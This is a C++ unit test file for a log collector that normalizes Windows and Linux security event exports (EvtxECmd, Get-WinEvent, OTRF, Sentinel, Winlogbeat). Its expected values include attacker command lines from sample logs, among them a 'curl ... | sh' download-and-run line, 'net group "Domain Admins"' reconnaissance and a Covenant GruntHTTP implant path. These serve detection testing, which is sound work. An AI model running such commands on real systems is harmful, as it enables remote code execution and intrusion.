// The formats seen in the wild (shared/spec/telemetry.md): Windows event JSON renderings,
// OTRF, Sentinel, Winlogbeat and the classic Windows PowerShell channel. Each is detected from
// content, mapped by the same normalizer as its XML, and bad input is reported with position.
#include "collectors/winevent_json.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>

#include "collectors/record_dedupe.h"
#include "core/collector.h"
#include "tests/collectors/event_diff.h"

namespace attest {
namespace {

namespace fs = std::filesystem;

struct Read {
    std::string collector;
    std::vector<Event> events;
    std::vector<Diagnostic> diagnostics;
    CollectorStats stats;
};

Read read_all(const std::string& path, std::string_view source = "") {
    Read r;
    DiagnosticSink sink([&r](const Diagnostic& d) { r.diagnostics.push_back(d); });
    CollectorOptions options;
    auto input = InputFile::open(path);
    EXPECT_TRUE(input) << path;
    if (!input) return r;
    if (source.empty()) {
        const CollectorInfo* info = CollectorRegistry::builtin().detect(input->head(), path);
        r.collector = info ? info->name : "";
    } else {
        r.collector = std::string(source);
    }
    auto c = CollectorRegistry::builtin().open(path, source, options, sink);
    EXPECT_TRUE(c) << path;
    if (!c) return r;
    Event e;
    while ((*c)->next(e)) r.events.push_back(e);
    r.stats = (*c)->stats();
    return r;
}

std::string str(const Event& e, std::string_view path) {
    const Value* v = e.find(path);
    if (v == nullptr) return "<absent>";
    return v->is_string() ? v->as_string() : v->to_json();
}

bool shared_data() {
    return fs::is_directory("../shared/data");
}
#define REQUIRE_SHARED() \
    if (!shared_data())  \
    GTEST_SKIP() << "../shared/data is absent (shared samples are not in a fresh clone)"

// Fields that differ by nature between renderings (provenance) are left out of the comparison.
Value comparable(Event e) {
    e.erase("attest");
    e.erase("winlog.record_id");
    return e;
}

// Every JSON rendering of the 10 shared events gives the events the XML gives.
TEST(WinEventJson, SharedRenderingsEqualTheirXml) {
    REQUIRE_SHARED();
    const std::string x = "../shared/data/xml/";
    auto sysmon = read_all(
        x + "Execution_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.libevtx.xml");
    auto ps = read_all(
        x +
        "Credential_Access_phish_windows_credentials_powershell_scriptblockLog_4104.libevtx.xml");
    std::vector<Event> xml = sysmon.events;
    xml.insert(xml.end(), ps.events.begin(), ps.events.end());
    ASSERT_EQ(xml.size(), 10u);
    struct Case {
        std::string file, collector;
        bool reversed_per_file;  // Get-WinEvent: newest first
    };
    for (const Case& c :
         {Case{"sysmon_ps4104.evtx_dump.synthetic.jsonl", "winevent_json", false},
          Case{"sysmon_ps4104.evtxecmd.synthetic.jsonl", "winevent_json", false},
          Case{"sysmon_ps4104.getwinevent.synthetic.json", "winevent_json", true}}) {
        SCOPED_TRACE(c.file);
        auto r = read_all("../shared/data/json/" + c.file);
        EXPECT_EQ(r.collector, c.collector);
        EXPECT_TRUE(r.diagnostics.empty()) << r.diagnostics.front().format();
        ASSERT_EQ(r.events.size(), 10u);
        std::vector<Event> got = r.events;
        if (c.reversed_per_file) {
            std::reverse(got.begin(), got.begin() + 8);
            std::reverse(got.begin() + 8, got.end());
        }
        for (std::size_t i = 0; i < got.size(); ++i) {
            Value a = comparable(got[i]), b = comparable(xml[i]);
            // EvtxECmd turned the second 4104's line breaks into ", ": the one known loss.
            if (c.file.find("evtxecmd") != std::string::npos && i == 9) {
                EXPECT_NE(str(got[i], "attest.rendering_loss"), "<absent>");
                continue;
            }
            EXPECT_EQ(testing_support::first_difference(a, b), "") << "event " << i;
        }
    }
}

TEST(WinEventJson, LossyEvtxECmdDecodesEntitiesOnceAndSaysSo) {
    auto r = read_all("tests/data/formats/evtxecmd_lossy.jsonl");
    EXPECT_EQ(r.collector, "winevent_json");
    ASSERT_EQ(r.events.size(), 2u);
    const Event& ps = r.events[0];
    EXPECT_EQ(str(ps, "event.dataset"), "windows.powershell");
    EXPECT_EQ(str(ps, "event.type"), "[\"start\"]");
    // The multi-line HostApplication, joined by EvtxECmd with ", ", ends at the next known key.
    EXPECT_EQ(str(ps, "process.command_line"),
              "powershell.exe & {Get-Mailbox |,   Export-Csv C:\\temp\\mb.csv}");
    EXPECT_EQ(str(ps, "process.entity_id"), "7b0c2a4e-61c1-4a58-9a0c-7e2b4f1a3c11");
    EXPECT_NE(str(ps, "attest.rendering_loss"), "<absent>");
    const Event& sysmon = r.events[1];
    EXPECT_EQ(str(sysmon, "process.command_line"), "cmd.exe /c echo a & echo b, second line");
    EXPECT_EQ(str(sysmon, "winlog.event_data.LogonId"), "0xc796");
    EXPECT_EQ(str(sysmon, "@timestamp"), "2024-05-02T10:00:03.000Z");
}

TEST(WinEventJson, EvtxDumpJsonWithRecordLinesAndSeparateAttributes) {
    auto r = read_all("tests/data/formats/evtx_dump_records.json");
    EXPECT_EQ(r.collector, "winevent_json");
    EXPECT_TRUE(r.diagnostics.empty()) << r.diagnostics.front().format();
    ASSERT_EQ(r.events.size(), 2u);
    EXPECT_EQ(str(r.events[0], "event.dataset"), "windows.sysmon_operational");
    EXPECT_EQ(str(r.events[0], "winlog.event_data.Initiated"), "true");
    EXPECT_EQ(str(r.events[0], "destination.port"), "80");
    EXPECT_EQ(str(r.events[0], "winlog.record_id"), "8");
    EXPECT_EQ(str(r.events[1], "event.dataset"), "windows.powershell");
    EXPECT_EQ(str(r.events[1], "process.command_line"), "C:\\Users\\alice\\GruntHTTP.exe");
    EXPECT_EQ(str(r.events[1], "powershell.provider.name"), "Registry");
}

TEST(WinEventJson, GetWinEventMessageOnlyNamesFieldsFromTheSysmonMessage) {
    auto r = read_all("tests/data/formats/getwinevent_ps7_message_only.json");
    EXPECT_EQ(r.collector, "winevent_json");
    ASSERT_EQ(r.events.size(), 1u);
    const Event& e = r.events[0];
    EXPECT_EQ(str(e, "@timestamp"), "2024-05-02T10:00:06.276Z");
    EXPECT_EQ(str(e, "event.created"), "2024-05-02T10:00:06.286Z");  // +02:00 to UTC
    EXPECT_EQ(str(e, "process.command_line"), "cmd.exe /c \"echo one\r\necho two\"");
    EXPECT_EQ(str(e, "winlog.keywords"), "0x8000000000000000");
    EXPECT_EQ(str(e, "host.name"), "server002.lab.local");
}

TEST(WinEventJson, TemplatesByFieldCount) {
    EXPECT_EQ(winevent_template("Microsoft-Windows-Sysmon", 1, 5, 21).size(), 21u);
    EXPECT_EQ(winevent_template("Microsoft-Windows-Sysmon", 1, 5, 21)[9], "CommandLine");
    EXPECT_EQ(winevent_template("Microsoft-Windows-Sysmon", 11, 2, 7).back(), "CreationUtcTime");
    EXPECT_TRUE(winevent_template("Microsoft-Windows-Sysmon", 1, 5, 30).empty());
    EXPECT_EQ(winevent_template("Microsoft-Windows-PowerShell", 4104, 1, 5)[2], "ScriptBlockText");
}

TEST(ClassicPowerShell, XmlEventsMapAsElasticWindowsPowershell) {
    auto r = read_all("tests/data/formats/classic_powershell.xml");
    EXPECT_EQ(r.collector, "winevent_xml");
    ASSERT_EQ(r.events.size(), 3u);
    const Event& start = r.events[0];
    EXPECT_EQ(str(start, "event.dataset"), "windows.powershell");
    EXPECT_EQ(str(start, "event.type"), "[\"start\"]");
    EXPECT_EQ(
        str(start, "process.command_line"),
        "powershell.exe & {Get-Mailbox |\n  Export-Csv C:\\temp\\mb.csv}");  // XML normalizes CRLF
    EXPECT_EQ(str(start, "process.title"), "ConsoleHost");
    EXPECT_EQ(str(start, "powershell.engine.version"), "5.1.17763.1");
    EXPECT_EQ(str(start, "powershell.runspace_id"), "5f3b1c2d-0000-4a3b-8c1d-2e3f4a5b6c7d");
    const Event& pipeline = r.events[1];
    EXPECT_EQ(str(pipeline, "event.type"), "[\"info\"]");
    EXPECT_EQ(str(pipeline, "user.name"), "alice");
    EXPECT_EQ(str(pipeline, "user.domain"), "LAB");
    EXPECT_EQ(str(pipeline, "powershell.sequence"), "1");
    EXPECT_EQ(str(pipeline, "powershell.total"), "1");
    EXPECT_EQ(str(pipeline, "powershell.pipeline_id"), "3");
    EXPECT_EQ(str(pipeline, "powershell.command.value"), "Get-Mailbox -ResultSize 10");
    EXPECT_NE(str(pipeline, "powershell.command.invocation_details"), "<absent>");
    EXPECT_EQ(str(r.events[2], "event.type"), "[\"end\"]");
}

TEST(Otrf, DumpertFileTimesFromUtcTimeAndMeasuredOffset) {
    REQUIRE_SHARED();
    auto r =
        read_all("../shared/data/otrf/cmd_lsass_memory_dumpert_syscalls_2020-10-1822561997.json");
    EXPECT_EQ(r.collector, "otrf");
    ASSERT_EQ(r.events.size(), 118u);  // the 8 identical lines are kept
    std::size_t sysmon = 0, security = 0;
    for (const Event& e : r.events) {
        std::string ds = str(e, "event.dataset");
        sysmon += ds == "windows.sysmon_operational";
        security += ds == "windows.security";
        EXPECT_NE(str(e, "@timestamp"), "<absent>");
        EXPECT_EQ(str(e, "host.name"), "WORKSTATION5");
        if (ds == "windows.security") {
            EXPECT_NE(str(e, "attest.time_note"), "<absent>");
        }
    }
    EXPECT_EQ(sysmon, 95u);
    EXPECT_EQ(security, 23u);
    // First line: Security 5156 at "10:56:18.799"; UtcTime of the Sysmon events is 16 h ahead
    // (UTC-4 written on a 12-hour clock).
    EXPECT_EQ(str(r.events[0], "@timestamp"), "2020-10-19T02:56:18.799Z");
    bool counted = false;
    for (const auto& d : r.diagnostics)
        counted = counted || d.message.find("8 line(s) identical") != std::string::npos;
    EXPECT_TRUE(counted);
}

TEST(Otrf, CovenantNxlogPipelineHostsChannelsAndClassicPowerShell) {
    REQUIRE_SHARED();
    auto r = read_all("../shared/data/otrf/covenant_com_wsman_automation_2020-10-13002455.json");
    EXPECT_EQ(r.collector, "otrf");
    ASSERT_EQ(r.events.size(), 811u);
    std::map<std::string, std::size_t> by_dataset;
    std::set<std::string> hosts;
    for (const Event& e : r.events) {
        ++by_dataset[str(e, "event.dataset")];
        hosts.insert(str(e, "host.name"));
    }
    EXPECT_EQ(by_dataset["windows.sysmon_operational"], 419u);
    EXPECT_EQ(by_dataset["windows.security"], 378u);  // Security and security
    EXPECT_EQ(by_dataset["windows.powershell"], 13u);
    EXPECT_EQ(hosts.size(), 3u);
    EXPECT_EQ(hosts.count("wec.internal.cloudapp.net"), 0u);  // the collector, never the host
    bool grunt = false;
    for (const Event& e : r.events)
        grunt = grunt ||
                str(e, "process.command_line") == "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe";
    EXPECT_TRUE(grunt);
}

TEST(Sentinel, SecurityEventXmlTextColumnsWindowsEventAndSyslog) {
    auto r = read_all("tests/data/formats/sentinel_export.jsonl");
    EXPECT_EQ(r.collector, "sentinel");
    ASSERT_EQ(r.events.size(), 6u);  // the byte-identical repeat is dropped
    EXPECT_EQ(str(r.events[0], "winlog.event_data.CommandLine"), "whoami /all & hostname");
    EXPECT_EQ(str(r.events[0], "event.dataset"), "windows.security");
    EXPECT_EQ(str(r.events[0], "@timestamp"),
              "2024-05-02T10:00:07.500Z");  // TimeGenerated: nothing better
    EXPECT_EQ(str(r.events[1], "winlog.event_data.CommandLine"),
              "net group \"Domain Admins\" /domain");
    EXPECT_EQ(str(r.events[2], "@timestamp"),
              "2024-05-02T10:00:09.276Z");  // UtcTime, not TimeGenerated
    EXPECT_EQ(str(r.events[2], "process.command_line"), "cmd.exe /c whoami");
    EXPECT_EQ(str(r.events[3], "file.path"), "C:\\temp\\mb.csv");  // EventData_string
    EXPECT_EQ(str(r.events[4], "event.dataset"), "sysmon_linux.log");
    EXPECT_EQ(str(r.events[4], "process.executable"), "/usr/bin/curl");
    // auoms AUOMS_EXECVE: an auditd-like exec; cmdline's unescaped quotes kept whole.
    const Event& exec = r.events[5];
    EXPECT_EQ(str(exec, "event.dataset"), "auditd.log");
    EXPECT_EQ(str(exec, "event.action"), "executed");
    EXPECT_EQ(str(exec, "@timestamp"), "2024-05-02T10:00:13.250Z");
    EXPECT_EQ(str(exec, "process.command_line"), "bash -c \"curl -s http://example.test/x | sh\"");
    EXPECT_EQ(str(exec, "process.parent.pid"), "1200");
    EXPECT_EQ(str(exec, "user.name"), "alice");
    EXPECT_EQ(str(exec, "host.name"), "lin01");
    bool counted = false;
    for (const auto& d : r.diagnostics)
        counted = counted || d.message.find("1 byte-identical row") != std::string::npos;
    EXPECT_TRUE(counted);
}

// The Log Analytics portal's CSV export of the same rows (datetime columns suffixed ` [UTC]`,
// dynamic columns as JSON text, a BOM, CRLF) gives the same events as the JSON export.
TEST(Sentinel, CsvExportGivesTheEventsOfTheJsonExport) {
    auto csv = read_all("tests/data/formats/sentinel_export.csv");
    auto json = read_all("tests/data/formats/sentinel_export.jsonl");
    EXPECT_EQ(csv.collector, "sentinel");
    ASSERT_EQ(csv.events.size(), json.events.size());
    for (std::size_t i = 0; i < csv.events.size(); ++i) {
        EXPECT_EQ(str(csv.events[i], "attest.position"),
                  std::to_string(std::stoi(str(json.events[i], "attest.position")) + 1));
        Value a = csv.events[i], b = json.events[i];
        for (Value* e : {&a, &b}) {
            e->erase("attest");
            // Columns left as event data (no EventData column) come in each export's column
            // order: the CSV's is the union of all rows' columns.
            Value* winlog = e->get("winlog");
            Value* data = winlog ? winlog->get("event_data") : nullptr;
            if (data != nullptr && data->is_object())
                std::sort(data->as_object().begin(), data->as_object().end(),
                          [](const Member& x, const Member& y) { return x.key < y.key; });
        }
        EXPECT_EQ(testing_support::first_difference(a, b), "") << "event " << i;
    }
    bool counted = false;
    for (const auto& d : csv.diagnostics)
        counted = counted || d.message.find("1 byte-identical row") != std::string::npos;
    EXPECT_TRUE(counted);
}

// A CSV row whose field count is not the header's (a quote broken by hand editing) is reported
// at its line and skipped; the rows after it are read.
TEST(Sentinel, CsvRowWithWrongFieldCountReportedAndSkipped) {
    fs::path p = fs::temp_directory_path() / "attest_sentinel_bad.csv";
    std::ofstream(p) << "TimeGenerated [UTC],Type,Computer,EventID,Channel,Provider,EventData\n"
                        "2024-05-02T10:00:09Z,WindowsEvent,h1,1,x,y\n"
                        "2024-05-02T10:00:10Z,WindowsEvent,h1,4104,Microsoft-Windows-PowerShell/"
                        "Operational,Microsoft-Windows-PowerShell,\"{\"\"ScriptBlockText\"\":"
                        "\"\"whoami\"\"}\"\n";
    auto r = read_all(p.string());
    EXPECT_EQ(r.collector, "sentinel");
    ASSERT_EQ(r.events.size(), 1u);
    EXPECT_EQ(str(r.events[0], "powershell.file.script_block_text"), "whoami");
    ASSERT_FALSE(r.diagnostics.empty());
    EXPECT_EQ(r.diagnostics[0].line, 2u);
    EXPECT_NE(r.diagnostics[0].message.find("6 fields, the header 7"), std::string::npos)
        << r.diagnostics[0].message;
    EXPECT_EQ(r.stats.skipped, 1u);
    fs::remove(p);
}

TEST(Winlogbeat, DatasetInferredAndVocabularyKept) {
    auto r = read_all("tests/data/formats/winlogbeat_docs.ndjson");
    EXPECT_EQ(r.collector, "winlogbeat");
    ASSERT_EQ(r.events.size(), 4u);
    EXPECT_EQ(str(r.events[0], "event.dataset"),
              "windows.sysmon_operational");  // winlog.channel only
    EXPECT_EQ(str(r.events[0], "process.executable"), "C:\\Windows\\System32\\cmd.exe");
    EXPECT_EQ(str(r.events[1], "event.dataset"), "windows.powershell_operational");  // _index
    EXPECT_EQ(str(r.events[2], "event.dataset"), "system.security");                 // event.module
    EXPECT_EQ(str(r.events[2], "process.command_line"), "whoami");               // dotted -> nested
    EXPECT_EQ(str(r.events[3], "event.dataset"), "windows.sysmon_operational");  // Winlogbeat 6
    EXPECT_EQ(str(r.events[3], "process.command_line"), "cmd.exe /c whoami");
}

// Bad input: truncated JSON and rows without time are reported at file:line:column and skipped.
TEST(FormatsBadInput, ReportedWithPosition) {
    struct Case {
        std::string file, source;
        std::size_t events;
        std::vector<std::pair<std::uint64_t, std::string>> errors;  // line, message part
    };
    const Case cases[] = {
        {"tests/data/formats/winlogbeat.bad.ndjson",
         "winlogbeat",
         1,
         {{2, "cut short"}, {3, "no @timestamp"}}},
        {"tests/data/formats/sentinel.bad.jsonl",
         "sentinel",
         1,
         {{2, "no time"}, {3, "cut short"}}},
        {"tests/data/formats/evtxecmd.bad.jsonl",
         "winevent_json",
         1,
         {{2, "cut short"}, {3, "no EventID"}}},
        {"tests/data/formats/otrf.bad.json",
         "otrf",
         1,
         {{2, "no usable time"}, {3, "not terminated"}}},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.file);
        auto r = read_all(c.file, c.source);
        EXPECT_EQ(r.events.size(), c.events);
        std::vector<Diagnostic> errors;
        for (const auto& d : r.diagnostics)
            if (d.severity == Severity::Error) errors.push_back(d);
        ASSERT_EQ(errors.size(), c.errors.size());
        for (std::size_t i = 0; i < errors.size(); ++i) {
            EXPECT_EQ(errors[i].line, c.errors[i].first) << errors[i].format();
            EXPECT_GE(errors[i].column, 1u) << errors[i].format();
            EXPECT_NE(errors[i].message.find(c.errors[i].second), std::string::npos)
                << errors[i].format();
        }
        EXPECT_EQ(r.stats.skipped, c.errors.size());
    }
}

TEST(RecordDedupe, IdentityAndBoundedWindow) {
    Event a = Value::object();
    a.set("winlog.channel", Value("Security"));
    a.set("winlog.computer_name", Value("SERVER002.lab.local"));
    a.set("winlog.record_id", Value(42));
    Event b = a;
    b.set("winlog.computer_name", Value("server002"));
    EXPECT_EQ(record_identity(a), record_identity(b));
    EXPECT_EQ(record_identity(a), "winlog|security|server002|42");
    Event o = Value::object();
    o.set("event.dataset", Value("o365.audit"));
    o.set("event.id", Value("80ab29e3"));
    EXPECT_EQ(record_identity(o), "o365|80ab29e3");
    EXPECT_EQ(record_identity(Value::object()), "");

    RecordDeduper d(2);
    EXPECT_FALSE(d.seen("x"));
    EXPECT_TRUE(d.seen("x"));
    EXPECT_FALSE(d.seen("y"));
    EXPECT_FALSE(d.seen("z"));  // evicts x
    EXPECT_FALSE(d.seen("x"));
    EXPECT_EQ(d.size(), 2u);
}

TEST(JsonRecordReaderUtf16, DecodesUtf16WithAndWithoutBom) {
    for (bool bom : {true, false}) {
        std::string bytes = bom ? std::string("\xFF\xFE", 2) : std::string();
        std::u16string u = u"[{\"a\":\"\u00e9\"},{\"a\":\"x\"}]";
        for (char16_t ch : u) {
            bytes.push_back(static_cast<char>(ch & 0xFF));
            bytes.push_back(static_cast<char>(ch >> 8));
        }
        fs::path p = fs::temp_directory_path() / ("attest_utf16_" + std::to_string(bom) + ".json");
        std::ofstream(p, std::ios::binary) << bytes;
        auto input = InputFile::open(p.string());
        ASSERT_TRUE(input);
        JsonRecordReader reader(*input);
        JsonRecord rec;
        std::vector<std::string> got;
        while (reader.next(rec, [](const JsonStreamProblem& pr) { ADD_FAILURE() << pr.message; }))
            got.emplace_back(rec.text);
        ASSERT_EQ(got.size(), 2u);
        EXPECT_EQ(got[0], "{\"a\":\"\xc3\xa9\"}");
        fs::remove(p);
    }
}

}  // namespace
}  // namespace attest
